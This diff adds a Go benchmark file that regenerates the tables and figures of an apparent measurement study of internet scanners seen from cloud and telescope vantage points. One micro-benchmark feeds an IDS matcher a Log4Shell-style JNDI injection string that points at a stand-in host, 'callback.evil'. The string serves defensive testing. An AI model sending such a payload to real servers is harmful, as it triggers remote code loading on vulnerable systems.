@@ -1,0 +1,308 @@
+package cloudwatch
+
+// One benchmark per table and figure of the paper's evaluation. Each
+// bench builds (and caches) the study for its dataset year, then
+// measures the experiment computation; the rendered tables land in
+// bench output via b.Log at -v. Key shape metrics are reported through
+// b.ReportMetric so regressions in the reproduced findings are visible
+// in benchmark diffs.
+
+import (
+	"sync"
+	"testing"
+
+	"cloudwatch/internal/core"
+	"cloudwatch/internal/fingerprint"
+	"cloudwatch/internal/ids"
+	"cloudwatch/internal/scanners"
+	"cloudwatch/internal/stats"
+)
+
+var (
+	benchMu      sync.Mutex
+	benchStudies = map[string]*core.Study{}
+)
+
+// benchStudy caches one study per (year, figure-scale) variant.
+func benchStudy(b *testing.B, year int, figure bool) *core.Study {
+	b.Helper()
+	key := "std"
+	if figure {
+		key = "fig"
+	}
+	key += string(rune('0' + year - 2019))
+	benchMu.Lock()
+	defer benchMu.Unlock()
+	if s, ok := benchStudies[key]; ok {
+		return s
+	}
+	cfg := QuickStudy(42, year)
+	if figure {
+		cfg = QuickStudy(42, year)
+		cfg.Deploy.TelescopeSlash24s = 512
+	}
+	s, err := Run(cfg)
+	if err != nil {
+		b.Fatal(err)
+	}
+	benchStudies[key] = s
+	return s
+}
+
+func BenchmarkStudyGeneration(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		if _, err := Run(QuickStudy(int64(i), 2021)); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkTable1VantagePoints(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	var r core.Table1Result
+	for i := 0; i < b.N; i++ {
+		r = s.Table1()
+	}
+	for _, row := range r.Rows {
+		if row.Collection == "telescope" {
+			b.ReportMetric(float64(row.UniqueIPs), "telescope-ips")
+		}
+	}
+}
+
+func BenchmarkTable2Neighborhoods(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	var r core.Table2Result
+	for i := 0; i < b.N; i++ {
+		r = s.Table2()
+	}
+	for _, c := range r.Cells {
+		if c.Slice == core.SliceSSH22 && c.Characteristic == core.CharTopAS {
+			b.ReportMetric(c.FractionDifferent*100, "ssh-as-diff-pct")
+		}
+	}
+}
+
+func BenchmarkTable3SearchEngines(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	var r core.Table3Result
+	for i := 0; i < b.N; i++ {
+		r = s.Table3()
+	}
+	for _, row := range r.Rows {
+		if row.Service == "HTTP/80" && row.Traffic == "All" && row.Group == "shodan" {
+			b.ReportMetric(row.Fold, "http80-shodan-fold")
+		}
+	}
+}
+
+func BenchmarkTable4GeoMostDifferent(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table4()
+	}
+}
+
+func BenchmarkTable5GeoSimilarity(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table5()
+	}
+}
+
+func BenchmarkTable6DeploymentMatrix(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table6()
+	}
+}
+
+func BenchmarkTable7NetworkTypes(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table7()
+	}
+}
+
+func BenchmarkTable8TelescopeOverlap(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	var r core.Table8Result
+	for i := 0; i < b.N; i++ {
+		r = s.Table8()
+	}
+	for _, row := range r.Rows {
+		switch row.Port {
+		case 22:
+			b.ReportMetric(row.TelCloudFrac*100, "p22-overlap-pct")
+		case 23:
+			b.ReportMetric(row.TelCloudFrac*100, "p23-overlap-pct")
+		}
+	}
+}
+
+func BenchmarkTable9MaliciousOverlap(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table9()
+	}
+}
+
+func BenchmarkTable10TelescopeASes(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table10()
+	}
+}
+
+func BenchmarkTable11UnexpectedProtocols(b *testing.B) {
+	s := benchStudy(b, 2021, false)
+	b.ResetTimer()
+	var r core.Table11Result
+	for i := 0; i < b.N; i++ {
+		r = s.Table11()
+	}
+	for _, row := range r.Rows {
+		if row.Port == 80 && !row.Expected {
+			b.ReportMetric(row.Share*100, "unexpected-pct")
+		}
+	}
+}
+
+func benchFigurePanel(b *testing.B, port uint16, metric string, get func(core.Figure1Panel) float64) {
+	s := benchStudy(b, 2021, true)
+	b.ResetTimer()
+	var r core.Figure1Result
+	for i := 0; i < b.N; i++ {
+		r = s.Figure1()
+	}
+	for _, p := range r.Panels {
+		if p.Port == port {
+			b.ReportMetric(get(p), metric)
+		}
+	}
+}
+
+func BenchmarkFigure1aPort22(b *testing.B) {
+	benchFigurePanel(b, 22, "slash16-boost", func(p core.Figure1Panel) float64 { return p.Slash16StartBoost })
+}
+
+func BenchmarkFigure1bPort445(b *testing.B) {
+	benchFigurePanel(b, 445, "octet255-ratio", func(p core.Figure1Panel) float64 { return p.Octet255Ratio })
+}
+
+func BenchmarkFigure1cPort80(b *testing.B) {
+	benchFigurePanel(b, 80, "octet255-ratio", func(p core.Figure1Panel) float64 { return p.Octet255Ratio })
+}
+
+func BenchmarkFigure1dPort17128(b *testing.B) {
+	benchFigurePanel(b, 17128, "latched-addrs", func(p core.Figure1Panel) float64 { return float64(len(p.TopAddresses)) })
+}
+
+// Appendix C (temporal validation): the same experiments on the 2020
+// and 2022 datasets.
+
+func BenchmarkTable12Neighborhoods2020(b *testing.B) {
+	s := benchStudy(b, 2020, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table2()
+	}
+}
+
+func BenchmarkTable13GeoSimilarity2020(b *testing.B) {
+	s := benchStudy(b, 2020, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table5()
+	}
+}
+
+func BenchmarkTable14NetworkTypes2022(b *testing.B) {
+	s := benchStudy(b, 2022, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table7()
+	}
+}
+
+func BenchmarkTable15Telescope2022(b *testing.B) {
+	s := benchStudy(b, 2022, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table10()
+	}
+}
+
+func BenchmarkTable16Geo2020(b *testing.B) {
+	s := benchStudy(b, 2020, false)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = s.Table4()
+	}
+}
+
+func BenchmarkTable17Protocols2022(b *testing.B) {
+	s := benchStudy(b, 2022, false)
+	b.ResetTimer()
+	var r core.Table11Result
+	for i := 0; i < b.N; i++ {
+		r = s.Table11()
+	}
+	for _, row := range r.Rows {
+		if row.Port == 80 && !row.Expected {
+			b.ReportMetric(row.Share*100, "unexpected-pct-2022")
+		}
+	}
+}
+
+// Micro-benchmarks of the hot paths.
+
+func BenchmarkFingerprintIdentify(b *testing.B) {
+	payloads := [][]byte{
+		fingerprint.Probe(fingerprint.HTTP),
+		fingerprint.Probe(fingerprint.TLS),
+		fingerprint.Probe(fingerprint.SSH),
+		fingerprint.Probe(fingerprint.SMB),
+		[]byte("garbage that matches nothing at all"),
+	}
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		fingerprint.Identify(payloads[i%len(payloads)])
+	}
+}
+
+func BenchmarkIDSMatch(b *testing.B) {
+	e := ids.DefaultEngine()
+	payload := []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\n\r\n")
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		e.Match("tcp", 80, payload)
+	}
+}
+
+func BenchmarkChiSquareTopK(b *testing.B) {
+	x := stats.Freq{"a": 120, "b": 80, "c": 40, "d": 10}
+	y := stats.Freq{"a": 90, "b": 95, "e": 55, "f": 12}
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if _, err := stats.CompareTopK(3, x, y); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkPopulationBuild(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		_ = scanners.Population(scanners.Config{Seed: int64(i), Year: 2021, Scale: 0.35})
+	}
+}
